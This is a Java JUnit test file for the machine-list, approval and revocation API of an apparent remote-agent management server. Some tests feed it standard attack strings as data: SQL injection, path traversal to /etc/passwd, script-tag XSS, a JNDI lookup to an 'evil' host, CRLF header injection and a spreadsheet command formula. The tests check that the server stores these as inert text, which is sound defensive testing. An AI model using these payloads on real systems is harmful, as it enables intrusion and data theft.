package dev.sallyport.server.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

import dev.sallyport.protocol.frame.GoAwayCode;
import dev.sallyport.testing.agent.OperationScript;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

class MachineRoutesTest {
  @TempDir
  static Path directory;
  private static ApiScene scene;
  private static LiveMachine web;
  private static LiveMachine mail;

  @BeforeAll
  static void start() throws Exception {
    scene = ApiScene.open(directory);
    web = scene.enrol("web-1", OperationScript.none());
    mail = scene.enrol("mail-1", OperationScript.none());
    mail.cut();
    ApiScene.await("mail-1 is offline", () -> scene.view(mail).get("state").stringValue().equals("offline"));
  }

  @AfterAll
  static void stop() {
    scene.close();
  }

  @Test
  void aMachineIsShownAsItDescribesItself() throws Exception {
    JsonNode shown = scene.view(web);
    assertThat(shown.get("id").stringValue()).isEqualTo(web.id());
    assertThat(shown.get("name").stringValue()).isEqualTo("web-1");
    assertThat(shown.get("site").stringValue()).isEqualTo("default");
    assertThat(shown.get("state").stringValue()).isEqualTo("online");
    assertThat(shown.get("os").stringValue()).isEqualTo("FakeOS 1");
    assertThat(shown.get("arch").stringValue()).isEqualTo("x86_64");
    assertThat(shown.get("agentVersion").stringValue()).isEqualTo("0.1.0");
    assertThat(shown.get("address").stringValue()).isEqualTo("127.0.0.1");
    assertThat(shown.get("transport").stringValue()).isEqualTo("websocket");
    assertThat(Instant.parse(shown.get("since").stringValue())).isBefore(Instant.now().plusSeconds(60));
    assertThat(shown.get("alarms")).isEmpty();
  }

  @Test
  void itsConnectionIsShownWithAllThatItTold() throws Exception {
    JsonNode shown = scene.owner().get("/api/v1/machines/" + web.id() + "/connection").good(200);
    assertThat(shown.get("state").stringValue()).isEqualTo("online");
    assertThat(shown.get("transport").stringValue()).isEqualTo("websocket");
    assertThat(shown.get("address").stringValue()).isEqualTo("127.0.0.1");
    assertThat(shown.get("found").isNull()).as("this machine told nothing of its way").isTrue();
    assertThat(shown.get("tried")).isEmpty();
    assertThat(scene.owner().get("/api/v1/machines/00000000-0000-0000-0000-000000000000/connection").status())
        .isEqualTo(404);
  }

  @ParameterizedTest(name = "{0} finds {1}")
  @CsvSource(delimiter = '|', value = {"'' | mail-1 web-1", "?name=* | mail-1 web-1", "?name=WEB-* | web-1",
      "?name=web-? | web-1",
      "?name=%25 | ''", "?name=_eb-1 | ''", "?name=web-1%27%20OR%20%271%27=%271 | ''", "?state=online | web-1",
      "?state=offline | mail-1", "?state=pending | ''", "?name=mail*&state=online | ''"})
  void listsAreNarrowedByNameAndState(String query, String found) throws Exception {
    var names = new ArrayList<String>();
    JsonNode page = scene.owner().get("/api/v1/machines" + query).good(200);
    page.get("machines").forEach(machine -> names.add(machine.get("name").stringValue()));
    assertThat(String.join(" ", names)).isEqualTo(found);
    assertThat(page.get("next").isNull()).isTrue();
  }

  @Test
  void pagesFollowEachOther() throws Exception {
    JsonNode first = scene.owner().get("/api/v1/machines?limit=1").good(200);
    assertThat(first.get("machines").get(0).get("name").stringValue()).isEqualTo("mail-1");
    JsonNode second = scene.owner().get("/api/v1/machines?limit=1&after=" + first.get("next").stringValue()).good(200);
    assertThat(second.get("machines").get(0).get("name").stringValue()).isEqualTo("web-1");
    assertThat(second.get("next").isNull()).isTrue();
  }

  @ParameterizedTest(name = "{0} names {1}")
  @CsvSource({"limit=0, limit", "limit=1001, limit", "limit=-1, limit", "limit=many, limit", "limit=99999999999, limit",
      "state=asleep, state", "state=ONLINE, state", "after=nonsense, after", "after=%00, after", "name=%00, name"})
  void aWrongParameterIsNamedWithWhatToDo(String query, String field) throws Exception {
    scene.owner().get("/api/v1/machines?" + query).refusedField(field);
  }

  @Test
  void aPatternThatIsTooLongIsRefused() throws Exception {
    scene.owner().get("/api/v1/machines?name=" + "a".repeat(256)).refusedField("name");
  }

  @ParameterizedTest
  @DisplayName("T14 an id is opaque: nothing but a machine's own id finds one, and no path hides in it")
  @ValueSource(strings = {"x", "web-1", "00000000-0000-7000-8000-000000000000", "..%2f..%2fetc%2fpasswd", "..", "%00",
      "a.b",
      "00000000-0000-7000-8000-00000000000G"})
  void anIdThatIsNoneFindsNothing(String id) throws Exception {
    scene.owner().get("/api/v1/machines/" + id).refused(404, "not-found");
    scene.owner().post("/api/v1/machines/" + id + "/approve", "").refused(404, "not-found");
    scene.owner().post("/api/v1/machines/" + id + "/revoke", "").refused(404, "not-found");
  }

  @Test
  void aMachineThatWaitsForApprovalGetsNothingToDoUntilItIsApproved() throws Exception {
    LiveMachine shy = scene.enrol("shy", OperationScript.none(), "{\"approval\":\"manual\"}");
    scene.owner().post("/api/v1/directives", ApiScene.shell("id", shy)).refusedField("machines[0]");

    JsonNode approved = scene.owner().post("/api/v1/machines/" + shy.id() + "/approve", "").good(200);
    assertThat(approved.get("state").stringValue()).isIn("online", "offline");
    shy.agent().awaitEnd();
    assertThat(shy.agent().control().goneAways()).as("it learns of it with its next session")
        .containsExactly(GoAwayCode.POLICY);
    shy.connect(scene.server(), OperationScript.none());
    ApiScene.await("shy is online", () -> scene.view(shy).get("state").stringValue().equals("online"));

    Reply again = scene.owner().post("/api/v1/machines/" + shy.id() + "/approve", "").refused(409, "not-pending");
    assertThat(again.body()).contains("active");
    revoke(shy);
  }

  @Test
  @DisplayName("T45 dismissing a machine ends its link, and it never comes back")
  void aDismissedMachineIsGone() throws Exception {
    LiveMachine gone = scene.enrol("gone", OperationScript.none());
    revoke(gone);
    gone.agent().awaitEnd();
    assertThat(scene.view(gone).get("state").stringValue()).isEqualTo("revoked");
    assertThat(scene.owner().get("/api/v1/machines?name=gone").good(200).get("machines")).isEmpty();
    scene.owner().post("/api/v1/machines/" + gone.id() + "/approve", "").refused(409, "not-pending");
    scene.owner().post("/api/v1/directives", ApiScene.shell("id", gone)).refusedField("machines[0]");
    scene.owner().post("/api/v1/directives", "{\"action\":\"machine-summary\",\"name\":\"gone\"}").refusedField("name");
  }

  @Test
  @DisplayName("T15 a second machine of a name is a second machine")
  void aNameIsNoIdentity() throws Exception {
    LiveMachine first = scene.enrol("twin", OperationScript.none());
    LiveMachine second = scene.enrol("twin", OperationScript.none());
    assertThat(first.id()).isNotEqualTo(second.id());
    assertThat(scene.owner().get("/api/v1/machines?name=twin").good(200).get("machines")).hasSize(2);
    revoke(first);
    assertThat(scene.view(second).get("state").stringValue()).isEqualTo("online");
    revoke(second);
  }

  @Test
  @DisplayName("T19 what a machine says of itself is text: nothing in it acts, and a line stays a line")
  void hostileNamesAreText() throws Exception {
    for (String hostile : List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil/x}",
        "'; DROP TABLE machine;--", "{{7*7}}", "../../etc/passwd", "%0d%0aSet-Cookie: x=y", "=cmd|' /C calc'!A0")) {
      LiveMachine machine = scene.enrol(hostile, OperationScript.none());
      Reply shown = scene.owner().get("/api/v1/machines/" + machine.id());
      String name = shown.good(200).get("name").stringValue();
      assertThat(name).as("kept as it is, for whoever shows it to escape").isEqualTo(hostile);
      assertThat(shown.header("content-type")).isEqualTo("application/json");
      assertThat(shown.header("x-content-type-options")).isEqualTo("nosniff");
      assertThat(shown.header("content-security-policy")).contains("default-src 'none'");
      assertThat(shown.header("set-cookie")).isEmpty();
      revoke(machine);
    }
    assertThat(scene.owner().get("/api/v1/machines?state=online").good(200).get("machines")).as("the table is there")
        .isNotEmpty();
  }

  private static void revoke(LiveMachine machine) throws IOException {
    assertThat(scene.owner().post("/api/v1/machines/" + machine.id() + "/revoke", "").status()).isEqualTo(204);
  }
}
